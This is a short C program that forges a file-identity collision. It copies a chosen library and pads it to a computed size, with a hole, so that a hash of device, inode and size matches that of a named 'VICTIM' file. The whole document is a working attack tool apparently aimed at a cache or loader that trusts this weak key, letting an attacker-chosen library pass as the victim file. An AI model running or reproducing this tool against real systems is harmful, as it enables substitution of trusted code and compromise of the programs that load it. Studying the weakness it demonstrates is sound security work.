/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * same_key LIBRARY COPY VICTIM: copies LIBRARY, and makes the copy so long, with a hole, that the copy has the same number as VICTIM if
 * device, inode and size are put together by an exclusive or and a multiplication. What is copied is a file that its user may
 * choose, such as one in /dev/shm.
 */
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#define FACTOR 0x9e3779b97f4a7c15ull
#define TRIES  256 /* each size is below 2^63 with a probability of one half */

static uint64_t place(const struct stat *st)
{
	return ((uint64_t)major(st->st_dev) << 20 | minor(st->st_dev)) << 32 | st->st_ino;
}

/* By Newton's method: each step doubles the number of bits that are right. */
static uint64_t inverse(uint64_t factor)
{
	uint64_t x = factor;
	int i;

	for (i = 0; i < 6; i++)
		x *= 2 - factor * x;
	return x;
}

int main(int argc, char **argv)
{
	struct stat victim, st, library;
	char other[4096];
	int from, i;

	if (argc != 4 || stat(argv[3], &victim) || stat(argv[1], &library))
		return 1;
	from = open(argv[1], O_RDONLY);
	for (i = 0; i < TRIES; i++) {
		int fd = open(argv[2], O_CREAT | O_EXCL | O_RDWR, 0755);
		uint64_t size;

		if (fd < 0 || fstat(fd, &st))
			return 1;
		size = (place(&victim) ^ (uint64_t)victim.st_size * FACTOR ^ place(&st)) *
		       inverse(FACTOR);
		if (size < 1ull << 62 && size > (uint64_t)library.st_size) {
			off_t at = 0;

			if (sendfile(fd, from, &at, (size_t)library.st_size) != library.st_size ||
			    ftruncate(fd, (off_t)size))
				return 1;
			printf("size %llu\n", (unsigned long long)size);
			return 0;
		}
		/* It keeps its inode, so that the next one gets another. */
		snprintf(other, sizeof(other), "%s.%d", argv[2], i);
		if (rename(argv[2], other))
			return 1;
		close(fd);
	}
	return 1;
}
